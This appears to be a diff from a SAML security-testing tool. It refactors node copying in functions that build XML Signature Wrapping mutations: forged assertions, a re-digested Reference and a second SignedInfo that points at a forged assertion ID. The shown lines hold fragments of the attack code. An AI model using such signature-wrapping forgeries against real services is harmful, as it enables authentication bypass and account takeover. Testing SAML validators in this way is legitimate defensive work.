@@ -10,6 +10,7 @@ import type { Document, Element, Node } from '@xmldom/xmldom';
 import { ExclusiveCanonicalization } from 'xml-crypto';
 import type { DomMutation, MutationContext } from '../types.js';
 import { DSIG_NS, SAML_NS, all, one, rootOf, signatureOf } from './dom.js';
+import { copyOf } from './copy-node.js';
 import { EVIL_ASSERTION_ID, forgedId, forgedAssertion, insertExtensions } from './xsw.js';
 
 /** TAIL (docs/attacks.md §0): the attacker's own IdP account is `${victim}.evil.test`. */
@@ -189,7 +190,7 @@ export function earlierForgedReference(): DomMutation {
     const assertion = one(doc, 'Assertion');
     const signature = signatureOf(assertion);
     if (!signature) throw new Error('the Assertion is not signed');
-    const reference = one(signature, 'Reference').cloneNode(true) as Element;
+    const reference = copyOf(one(signature, 'Reference'));
     const value = one(reference, 'DigestValue');
     while (value.firstChild) value.removeChild(value.firstChild);
     value.appendChild(doc.createTextNode(digestOf(assertion)));
@@ -211,7 +212,7 @@ export function secondSignedInfo(placement: 'sibling' | 'wrapped'): DomMutation 
     const forged = forgedAssertion(assertion, ctx, forgedId(EVIL_ASSERTION_ID, ctx));
     rootOf(doc).insertBefore(forged, assertion);
     const signedInfo = one(signature, 'SignedInfo');
-    const second = signedInfo.cloneNode(true) as Element;
+    const second = copyOf(signedInfo);
     one(second, 'Reference').setAttribute('URI', `#${forgedId(EVIL_ASSERTION_ID, ctx)}`);
     const value = one(second, 'DigestValue');
     while (value.firstChild) value.removeChild(value.firstChild);
@@ -250,7 +251,7 @@ function rebind(doc: Document, element: Element, from: string, to: string): Elem
     else copy.setAttribute(attr.name, attr.value);
   }
   for (let c = element.firstChild; c; c = c.nextSibling) {
-    copy.appendChild(c.nodeType === 1 ? rebind(doc, c as Element, from, to) : c.cloneNode(true));
+    copy.appendChild(c.nodeType === 1 ? rebind(doc, c as Element, from, to) : copyOf(c));
   }
   return copy;
 }
